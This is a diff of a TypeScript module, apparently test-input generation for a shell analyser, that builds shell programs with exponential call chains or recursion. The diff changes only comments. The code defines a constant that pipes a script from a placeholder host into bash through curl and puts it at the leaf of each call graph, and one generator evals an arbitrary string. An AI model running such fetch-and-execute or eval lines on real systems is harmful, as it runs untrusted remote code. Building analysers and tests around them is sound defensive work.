@@ -1,4 +1,4 @@
-/** Shell programs whose functions call each other very often: small texts, with exponentially many calls or unbounded recursion. */
+/** Small shell programs with exponentially many function calls or with unbounded recursion. */
 
 const FETCH = "bash <(curl -fsSL https://x.example/install.sh)";
 
@@ -6,7 +6,7 @@ function range(from: number, to: number): number[] {
   return Array.from({ length: Math.max(0, to - from + 1) }, (_, index) => from + index);
 }
 
-/** Each function calls the one before it twice. */
+/** Returns a program in which each function calls the previous one twice. */
 export function chain(length: number): string {
   const links = range(1, length).map((at) => {
     const callee = `f${String(at - 1)}`;
@@ -15,7 +15,7 @@ export function chain(length: number): string {
   return [`f0() { ${FETCH}; }`, ...links, `f${String(length)}`, ""].join("\n");
 }
 
-/** Each of the functions calls all of them. */
+/** Returns a program in which each function calls all functions. */
 export function clique(size: number): string {
   const calls = range(1, size)
     .map((at) => `f${String(at)};`)
@@ -24,7 +24,7 @@ export function clique(size: number): string {
   return [`install() { ${FETCH}; }`, ...members, "f1", ""].join("\n");
 }
 
-/** Each function passes its argument on twice, each time extended in a different way. */
+/** Returns a program in which each function calls the previous one twice, each time with its argument extended differently. */
 export function growing(length: number, code: string): string {
   const links = range(1, length).map((at) => {
     const callee = `g${String(at - 1)}`;
@@ -33,7 +33,7 @@ export function growing(length: number, code: string): string {
   return [`g0() { eval "$1"; }`, ...links, `g${String(length)} '${code}'`, ""].join("\n");
 }
 
-/** Actions that return to the menu that called them, submenus that call themselves. */
+/** Returns a program with a menu: actions call the menu again, and submenus call themselves. */
 export function menu(actions: number): string {
   const action = (at: number): string => {
     const id = String(at);
